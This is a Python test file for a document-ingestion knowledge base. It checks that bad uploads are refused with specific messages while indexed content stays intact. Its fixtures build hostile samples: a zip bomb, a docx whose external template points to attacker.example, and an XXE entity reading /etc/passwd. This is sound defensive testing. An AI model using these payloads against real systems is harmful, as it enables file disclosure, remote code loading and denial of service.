"""Every bad input in issue 18 gets its own clear message, and nothing else in the knowledge
base changes: the good document stays indexed and searchable, byte for byte the same."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest

from app.config import Settings
from app.store import knowledge_crud as store
from tests.knowledge.documents import (
    make_docx,
    make_pdf,
    make_xlsx,
    padded_xlsx,
    prose_page,
    rewrite_zip,
    statement_page,
)
from tests.knowledge.steps import add_and_index, index_all, search, upload

GOOD_PDF = make_pdf([statement_page("Acme", 2022)])


def docx() -> bytes:
    return make_docx(heading="Policy", paragraphs=["Text."], table=[["a", "b"], ["1", "2"]])


def zip_bomb(kind: str) -> bytes:
    base = docx() if kind == "docx" else make_xlsx({"S": [["a"], [1]]})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in zipfile.ZipFile(io.BytesIO(base)).infolist():
            bomb.writestr(item.filename, zipfile.ZipFile(io.BytesIO(base)).read(item.filename))
        bomb.writestr("customXml/padding.xml", b"\0" * (64 << 20))  # 64 MiB of zeros: ~64 KiB
    return out.getvalue()


EXTERNAL_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)


def docx_with_external_template() -> bytes:
    return rewrite_zip(docx(), {}, {"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE})


def xlsx_with_external_link() -> bytes:
    return rewrite_zip(
        make_xlsx({"S": [["a"], [1]]}),
        {},
        {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"},
    )


def docx_with_dtd() -> bytes:
    data = docx()
    xml = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml")
    evil = xml.replace(b"?>", b'?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1)
    return rewrite_zip(data, {"word/document.xml": evil})


# (file name, bytes, message fragment, refused at upload (True) or by the worker (False))
CASES: list[tuple[str, Callable[[], bytes], str, bool]] = [
    (
        "locked.pdf",
        lambda: make_pdf([prose_page(["Secret"])], encrypted=True),
        "encrypted (password-protected)",
        False,
    ),
    ("scan.pdf", lambda: make_pdf([[], []]), "no text layer; OCR is not supported", False),
    ("bomb.docx", lambda: zip_bomb("docx"), "zip bomb", False),
    ("bomb.xlsx", lambda: zip_bomb("xlsx"), "zip bomb", False),
    ("template.docx", docx_with_external_template, "external attachedTemplate", False),
    ("linked.xlsx", xlsx_with_external_link, "links to external workbooks", False),
    ("entities.docx", docx_with_dtd, "declares a DTD", False),
    (
        "report.docx",
        lambda: GOOD_PDF.replace(b"Acme", b"Acmf"),
        "the name ends in .docx but the content is PDF",
        True,
    ),
    ("notes.txt", lambda: docx(), "the name ends in .txt but the content is Word", True),
    ("empty.pdf", lambda: b"", "the file is empty (0 bytes)", True),
    ("huge.txt", lambda: b"word " * 50_000, "TELLER_KNOWLEDGE_MAX_FILE_BYTES", True),
    ("deck.pptx", lambda: b"PK\x03\x04", "unsupported file type .pptx", True),
    ("old.doc", lambda: b"\xd0\xcf\x11\xe0", "old binary Office format", True),
    (
        "protected.xlsx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
        "encrypted (password-protected) Office document",
        True,
    ),
    ("binary.csv", lambda: b"a,b\n\0\0\0", "binary, not text", False),
    ("broken.pdf", lambda: b"%PDF-1.4\nnot really", "not a readable PDF", False),
]


@pytest.fixture
def limited(settings: Settings) -> Settings:
    return settings.model_copy(
        update={"knowledge_max_file_bytes": 200_000, "knowledge_max_expanded_bytes": 8 << 20}
    )


@pytest.mark.parametrize(
    ("filename", "make", "message", "at_upload"), CASES, ids=[c[0] for c in CASES]
)
def test_bad_input_is_refused_with_its_reason_and_nothing_else_changes(
    sqlite_factory, limited: Settings, make_base, filename, make, message, at_upload
) -> None:  # noqa: ANN001
    base = make_base(sqlite_factory)
    good = add_and_index(sqlite_factory, limited, base, "acme.pdf", GOOD_PDF)
    before = [(p.chunk_id, p.text) for p in search(sqlite_factory, base, "total revenue")]
    assert before

    result = upload(sqlite_factory, limited, base, filename, make())
    if at_upload:
        assert result.outcome == "refused"
        assert message in result.message and result.message.startswith(f"{filename}: ")
    else:
        assert result.outcome == "queued", result.message
        index_all(sqlite_factory, limited)
        with sqlite_factory() as session:
            document = store.get_document(session=session, document_id=result.document.id)
            assert document.state == "failed"
            assert message in document.error, document.error
            assert document.chunks == 0
            assert store.document_chunks(session=session, document_id=document.id) == []

    with sqlite_factory() as session:
        kept = store.get_document(session=session, document_id=good.id)
        assert (kept.state, kept.chunks) == ("indexed", good.chunks)
        documents = store.list_documents(session=session, knowledge_base_id=base.id)
        assert len(documents) == (1 if at_upload else 2)
    assert [(p.chunk_id, p.text) for p in search(sqlite_factory, base, "total revenue")] == before


def test_a_million_empty_rows_cost_a_thousand_reads_and_say_so(
    sqlite_factory, settings: Settings, make_base
) -> None:  # noqa: ANN001
    base = make_base(sqlite_factory)
    document = add_and_index(
        sqlite_factory, settings, base, "padded.xlsx", padded_xlsx(5, 1_000_000)
    )
    assert document.state == "indexed", document.error
    assert "reading stopped at row 1,006 after 1,000 empty rows" in document.notes
    assert [p.location for p in search(sqlite_factory, base, "item 3 amount")] == [
        "Sheet1 rows 2-6"
    ]


def test_rows_past_the_sheet_limit_are_left_out_with_a_note(
    sqlite_factory, settings: Settings, make_base
) -> None:  # noqa: ANN001
    base = make_base(sqlite_factory)
    rows = [["n", "square"], *[[i, i * i] for i in range(200)]]
    limited = settings.model_copy(update={"knowledge_max_sheet_rows": 50})
    document = add_and_index(sqlite_factory, limited, base, "squares.xlsx", make_xlsx({"S": rows}))
    assert "S: only the first 50 rows were read (TELLER_KNOWLEDGE_MAX_SHEET_ROWS)" in document.notes


def test_a_scanned_page_inside_a_text_pdf_is_noted_not_fatal(
    sqlite_factory, settings: Settings, make_base
) -> None:  # noqa: ANN001
    base = make_base(sqlite_factory)
    data = make_pdf([statement_page("Acme", 2022), [], prose_page(["Back matter."])])
    document = add_and_index(sqlite_factory, settings, base, "mixed.pdf", data)
    assert document.state == "indexed"
    assert document.notes == "1 page(s) without text (scanned? not indexed): 2"


def test_the_same_bytes_twice_are_recognised_and_a_failed_copy_is_retried(
    sqlite_factory, settings: Settings, make_base
) -> None:  # noqa: ANN001
    base = make_base(sqlite_factory)
    first = add_and_index(sqlite_factory, settings, base, "acme.pdf", GOOD_PDF)
    again = upload(sqlite_factory, settings, base, "acme-copy.pdf", GOOD_PDF)
    assert again.outcome == "duplicate" and "already here as acme.pdf (indexed)" in again.message
    assert again.document.id == first.id

    other = make_base(sqlite_factory, "Other")
    assert upload(sqlite_factory, settings, other, "acme.pdf", GOOD_PDF).outcome == "queued"

    scan = make_pdf([[]])
    failed = upload(sqlite_factory, settings, base, "scan.pdf", scan)
    index_all(sqlite_factory, settings)
    retried = upload(sqlite_factory, settings, base, "scan.pdf", scan)
    assert retried.outcome == "queued" and retried.document.id == failed.document.id
